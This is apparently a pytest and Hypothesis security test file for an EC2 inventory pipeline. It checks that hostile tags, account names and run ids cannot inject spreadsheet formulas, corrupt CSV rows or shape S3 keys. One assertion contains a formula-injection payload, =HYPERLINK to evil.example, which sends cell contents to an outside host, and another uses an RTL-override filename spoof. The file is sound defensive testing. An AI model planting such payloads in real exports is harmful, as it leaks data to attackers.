"""
Hostile tags and names (issue point 4). Tag authors in any account control instance names and tags; whoever
edits the configuration controls account names; whoever triggers a run may choose its run id. None of it
may break the CSV, smuggle a formula into a spreadsheet, or shape an S3 key.

The documented neutralisation (docs/output-contract.md, "Formula neutralisation"): NUL characters are
removed; a cell that then starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading
``'``; nothing else is altered. S3 keys are built only from the prefix, 12-digit account ids, the date and
``safe_segment(run_id)``.

Property tests run in-process (records, the CSV writer, parts and the streaming merge on moto's in-process
S3); the seeded DAG run carries the same kind of values through EC2's API, Airflow and S3.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import boto3
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from moto import mock_aws

from include.cmdb_inventory import inventory
from include.cmdb_inventory.config import Account, parse_settings
from include.cmdb_inventory.contract import COLUMNS, safe_segment
from include.cmdb_inventory.records import FORMULA_TRIGGERS, instance_record
from include.cmdb_inventory.run import RunInfo
from include.cmdb_inventory.storage import SnapshotStore, rows_to_csv, spool
from include.cmdb_inventory.text import ELLIPSIS, MAX_VALUE_CHARS, clean
from tests.security import world
from tests.security.conftest import SUCCESS_DS
from tests.security.world import PREFIX, Org, Run

ACCOUNT = "222222222222"
REGION = "eu-west-1"
COLLECTED = "2026-11-20T02:00:07Z"
BUCKET = "hostile-input-test"
HOSTILE_CHARS = [
    "\x00", "\r", "\n", "\t", '"', "'", ",", ";", "=", "+", "-", "@", "|", "%", "\\",
    "\u202e", "\u200f", "\u202d", "\ufeff", "\u2028", "🚀", "👩", "\u200d",
    "é", "ß", "中", " ", "a", "Z", "0",
]  # fmt: skip
SAFE_KEY = re.compile(r"^cmdb/ec2-inventory(/[A-Za-z0-9._=-]+)+\Z")


def hostile_text(max_size: int = 40) -> st.SearchStrategy[str]:
    """Control characters, quotes, separators, formula triggers, bidi marks, emoji, long values, any text."""
    return st.one_of(
        st.text(alphabet=st.sampled_from(HOSTILE_CHARS), max_size=max_size),
        st.text(max_size=max_size),
        st.builds(
            lambda first, rest: first + rest,
            st.sampled_from([*FORMULA_TRIGGERS, "\x00=", "\x00\x00+", "=\x00"]),
            st.text(alphabet=st.sampled_from(HOSTILE_CHARS), max_size=max_size),
        ),
        st.builds(lambda c: c * 256, st.sampled_from(HOSTILE_CHARS)),
    )


def instances(max_size: int = 4) -> st.SearchStrategy[list[dict[str, Any]]]:
    """DescribeInstances-shaped instances with up to 50 hostile tags (sometimes a Name among them)."""
    tags = st.dictionaries(hostile_text(20).filter(bool), hostile_text(), max_size=50)
    instance = st.builds(
        lambda n, tags, name: {
            "InstanceId": f"i-{n:017x}",
            "State": {"Name": "running"},
            "Placement": {"AvailabilityZone": f"{REGION}a"},
            "InstanceType": "t3.micro",
            "LaunchTime": datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC),
            "Tags": [
                {"Key": k, "Value": v}
                for k, v in ({**tags, "Name": name} if name is not None else tags).items()
            ],
        },
        st.integers(0, 2**64),
        tags,
        st.none() | hostile_text(),
    )
    return st.lists(instance, min_size=1, max_size=max_size, unique_by=lambda i: i["InstanceId"])


def documented(value: str) -> str:
    """docs/output-contract.md's neutralisation, written out independently of records.neutralise."""
    value = value.replace("\x00", "")
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


def parse(text: str) -> list[list[str]]:
    """RFC 4180 CSV text back to rows."""
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_rows_match(records: list[dict[str, str]], rows: list[list[str]]) -> None:
    """One row per record, every cell the documented neutralisation of the record's value."""
    assert len(rows) == len(records)
    for record, row in zip(records, rows, strict=True):
        assert len(row) == len(COLUMNS)
        for column, cell in zip(COLUMNS, row, strict=True):
            assert cell == documented(record[column]), column
            assert not cell.startswith(FORMULA_TRIGGERS), column


def expected_tags(instance: dict[str, Any]) -> dict[str, str]:
    return {t["Key"]: t["Value"] for t in instance["Tags"]}


# --------------------------------------------------------------------------- records and the CSV writer


@settings(max_examples=150, deadline=None)
@given(account_name=hostile_text(), found=instances())
def test_csv_parses_back_to_one_row_per_instance_with_neutralised_cells(
    account_name: str, found: list[dict[str, Any]]
) -> None:
    records = [instance_record(Account(ACCOUNT, account_name), REGION, i, COLLECTED)[0] for i in found]
    out = io.StringIO()
    assert rows_to_csv(records, out) == len(found)
    header, *rows = parse(out.getvalue())
    assert header == list(COLUMNS)
    assert_rows_match(records, rows)
    for instance, row in zip(found, rows, strict=True):
        tags = expected_tags(instance)
        assert json.loads(row[COLUMNS.index("Tags")]) == tags  # JSON keeps even NUL (escaped), losslessly
        assert row[COLUMNS.index("Name")] == documented(tags.get("Name", ""))
        assert row[COLUMNS.index("AccountName")] == documented(account_name)
        assert row[:3] == [ACCOUNT, REGION, instance["InstanceId"]]


# --------------------------------------------------------------------------- parts, merge and keys on S3


@pytest.fixture(scope="module")
def s3() -> Iterator[Any]:
    """moto's in-process S3 with one bucket, for the whole module (examples use distinct keys)."""
    with mock_aws():
        client = boto3.client(
            "s3", region_name="us-east-1", aws_access_key_id="testing", aws_secret_access_key="testing"
        )
        client.create_bucket(Bucket=BUCKET)
        yield client


class KeyLog:
    """Every S3 key a client is asked to touch (botocore's before-parameter-build)."""

    def __init__(self, client: Any) -> None:
        self.keys: list[str] = []
        self.client = client
        client.meta.events.register("before-parameter-build.s3.*", self.record)

    def close(self) -> None:
        self.client.meta.events.unregister("before-parameter-build.s3.*", self.record)

    def record(self, params: dict[str, Any], **_: Any) -> None:
        for name in ("Key", "Prefix"):
            if params.get(name):
                self.keys.append(str(params[name]))
        source = params.get("CopySource")
        if isinstance(source, dict):
            self.keys.append(str(source["Key"]))


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(accounts=st.lists(st.tuples(hostile_text(), instances(3)), min_size=1, max_size=3))
def test_parts_merge_into_exactly_one_row_per_instance(s3: Any, accounts: list[Any]) -> None:
    store = SnapshotStore(s3, BUCKET, "merge-property")
    expected: list[dict[str, str]] = []
    keys = []
    for n, (name, found) in enumerate(accounts):
        account_id = f"{n + 1:012d}"
        records = sorted(
            (instance_record(Account(account_id, name), REGION, i, COLLECTED)[0] for i in found),
            key=lambda r: r["InstanceId"],
        )
        key = store.layout.part(store.layout.staging("2026-11-20", "property"), account_id)
        assert store.write_part(key, records) == len(records)
        keys.append(key)
        expected.extend(records)
    with spool() as out:
        store.merge_parts(keys, out)
        header, *rows = parse(out.read().decode("utf-8"))
    assert header == list(COLUMNS)
    assert_rows_match(expected, rows)


class StubEc2:
    """An EC2 client that answers DescribeRegions and DescribeInstances with given instances."""

    def __init__(self, found: list[dict[str, Any]]) -> None:
        self.found = found

    def describe_regions(self, **_: Any) -> dict[str, Any]:
        return {"Regions": [{"RegionName": REGION, "OptInStatus": "opt-in-not-required"}]}

    def get_paginator(self, name: str) -> Any:
        assert name == "describe_instances"
        found = self.found

        class Pages:
            def paginate(self, **_: Any) -> list[dict[str, Any]]:
                return [{"Reservations": [{"Instances": found}]}]

        return Pages()


class StubHook:
    """What scan.scan_account needs of the cross-account hook, without STS."""

    hub_region = REGION
    partition = "aws"

    def __init__(self, account_id: str, found: list[dict[str, Any]]) -> None:
        self.account_id = account_id
        self.ec2 = StubEc2(found)

    def assume(self) -> str:
        return f"arn:aws:iam::{self.account_id}:role/CMDBDiscovery"

    def session_key(self) -> str:
        return "stub-session"

    def renew_session(self, stale_key: str) -> bool:
        raise AssertionError("no session expires here")

    def client(self, service: str, region: str) -> StubEc2:
        return self.ec2


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    run_id=st.text(min_size=1, max_size=250),
    names=st.lists(hostile_text(), min_size=1, max_size=3),
    found=instances(2),
)
def test_no_s3_key_is_built_from_user_text(s3: Any, run_id: str, names: list[str], found: Any) -> None:
    log = KeyLog(s3)
    try:
        check_keys_of_a_run(s3, log, run_id, names, found)
    finally:
        log.close()


def check_keys_of_a_run(s3: Any, log: KeyLog, run_id: str, names: list[str], found: Any) -> None:
    """Scan and merge like the DAG does, then look at every key that was asked for."""
    accounts = [Account(id=f"{n + 1:012d}", name=name[:256]) for n, name in enumerate(names)]
    config = {
        "accounts": [{"id": a.id, "name": a.name} for a in accounts],
        "bucket": BUCKET,
        "prefix": PREFIX,
    }
    settings_ = parse_settings(config)
    run = RunInfo("cmdb_ec2_inventory", run_id, "2026-11-20", "2026-11-20T00:00:00+00:00")
    store = SnapshotStore(s3, BUCKET, PREFIX)
    for account in accounts:
        inventory.scan_account(settings_, run, account, store, hook=StubHook(account.id, found))  # type: ignore[arg-type]
    summary = inventory.merge_inventory(
        settings_, run, store, [a.to_dict() for a in accounts], overwrite=True
    )
    assert summary["row_count"] == len(accounts) * len(found)

    assert log.keys
    staging = f"{PREFIX}/_staging/ds=2026-11-20/run={safe_segment(run_id)}"
    for key in log.keys:
        assert SAFE_KEY.match(key), key
        assert "/../" not in f"/{key}/"
        assert "/./" not in f"/{key}/"
        if "/_staging/" in key:
            assert key.startswith(staging), key
        for segment in key.split("/"):
            if segment.isdigit():
                assert segment in {a.id for a in accounts}, key


@given(st.text(max_size=300))
def test_safe_segment_is_safe_and_tells_texts_apart(text: str) -> None:
    segment = safe_segment(text)
    assert re.fullmatch(r"[A-Za-z0-9._-]{1,80}-[0-9a-f]{10}", segment)
    assert not segment.startswith(".")
    assert segment != safe_segment(text + "x")


# --------------------------------------------------------------------------- the seeded run


@pytest.mark.e2e
@pytest.mark.xdist_group("security-e2e")
def test_seeded_hostile_instances_reach_the_csv_exactly_once_and_neutralised(
    org: Org, success_run: Run
) -> None:
    header, *rows = world.csv_rows(org, SUCCESS_DS)
    assert header == list(COLUMNS)
    by_id = {row[2]: row for row in rows}
    assert len(by_id) == len(rows)
    for row in rows:
        for column, cell in zip(COLUMNS, row, strict=True):
            assert not cell.startswith(FORMULA_TRIGGERS), (column, cell)
        assert row[COLUMNS.index("AccountName")] == documented(world.GOOD_ACCOUNTS[row[0]])

    hostile = "222222222222"
    seen = 0
    for region in world.REGIONS:
        ec2 = org.admin("ec2", region, account=hostile)
        for reservation in ec2.describe_instances()["Reservations"]:
            for instance in reservation["Instances"]:
                row = by_id.pop(instance["InstanceId"])
                tags = expected_tags(instance)
                assert json.loads(row[COLUMNS.index("Tags")]) == tags
                assert row[COLUMNS.index("Name")] == documented(tags["Name"])
                assert row[:2] == [hostile, region]
                seen += 1
    assert seen == len(world.HOSTILE_SERVERS)
    assert {r[0] for r in by_id.values()} == set(world.GOOD_ACCOUNTS) - {hostile}
    names = {row[COLUMNS.index("Name")] for row in rows}
    assert '\'=HYPERLINK("http://evil.example/?q="&A1,"click")' in names
    assert "'+cmd" in names
    fifty = json.loads(next(r for r in rows if r[COLUMNS.index("Name")] == "'+cmd")[COLUMNS.index("Tags")])
    assert len(fifty) == 50
    hyperlink = next(r for r in rows if r[COLUMNS.index("Name")].startswith("'=HYPERLINK"))
    first = json.loads(hyperlink[COLUMNS.index("Tags")])
    assert first["Long"] == "x" * 256
    assert first["Multi"] == "line one\nline two"
    assert first["Rtl"] == "\u202eexe.txt"


@pytest.mark.e2e
@pytest.mark.xdist_group("security-e2e")
def test_no_s3_key_of_the_seeded_run_carries_user_text(org: Org, success_run: Run) -> None:
    keys = {r.key for r in success_run.requests if r.service == "s3" and r.key}
    assert len(keys) >= 8
    for key in keys:
        assert SAFE_KEY.match(key), key
        for name in world.GOOD_ACCOUNTS.values():
            assert name not in key


# --------------------------------------------------------------------------- values shown in messages


# What text.clean must remove, defined from Unicode's categories rather than text.py's own pattern:
# controls (C0, DEL, C1), line and paragraph separators, lone surrogates, and the bidi embeddings,
# overrides and isolates (U+202A-U+202E, U+2066-U+2069).
BIDI_CONTROLS = {chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))}


def shown(value: str) -> str:
    """The documented cleaning, written out independently: runs of removed characters become one space
    when they hold a line break or tab (any whitespace), else nothing."""
    out: list[str] = []
    run: list[str] = []
    for char in [*value, None]:
        if char is not None and (
            unicodedata.category(char) in ("Cc", "Zl", "Zp", "Cs") or char in BIDI_CONTROLS
        ):
            run.append(char)
            continue
        if run:
            out.append(" " if any(c.isspace() for c in run) else "")
            run = []
        if char is not None:
            out.append(char)
    return "".join(out)


@settings(max_examples=300, deadline=None)
@given(
    value=st.one_of(
        hostile_text(600),
        st.text(
            alphabet=st.characters(codec=None, categories=("Cc", "Cf", "Zl", "Zp", "Cs", "Lo", "So")),
            max_size=600,
        ),
        st.builds(lambda c, n: c * n, st.sampled_from(HOSTILE_CHARS), st.integers(0, 5000)),
    ),
    limit=st.integers(1, 400),
)
def test_clean_removes_controls_keeps_any_script_and_cuts_with_an_ellipsis(value: str, limit: int) -> None:
    out = clean(value, limit)
    expected = shown(value)
    assert out == (expected if len(expected) <= limit else expected[: limit - 1] + ELLIPSIS)
    assert len(out) <= limit
    assert all(
        unicodedata.category(c) not in ("Cc", "Zl", "Zp", "Cs") and c not in BIDI_CONTROLS for c in out
    )
    assert len(out.splitlines()) <= 1  # no line breaks of any kind
    out.encode("utf-8")  # always encodable (no lone surrogates)
    assert clean(out, limit) == out  # cleaning is idempotent


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("line one\r\nInjected: line two", "line one Injected: line two"),
        ("\u202eexe.txt", "exe.txt"),
        ("a\u2028b\u2029c\x85d", "a b c d"),
        ("NUL\x00in\x1b[31mred", "NULin[31mred"),
        ("中文 देवनागरी 🚀👩\u200d💻 é", "中文 देवनागरी 🚀👩\u200d💻 é"),  # printable text of any script kept
    ],
)
def test_clean_examples(value: str, expected: str) -> None:
    assert clean(value) == expected


def test_clean_cuts_to_the_documented_length() -> None:
    assert MAX_VALUE_CHARS == 200
    assert clean("🚀" * 256) == "🚀" * 199 + ELLIPSIS
    assert clean("x" * 200) == "x" * 200
    assert clean(None) == ""
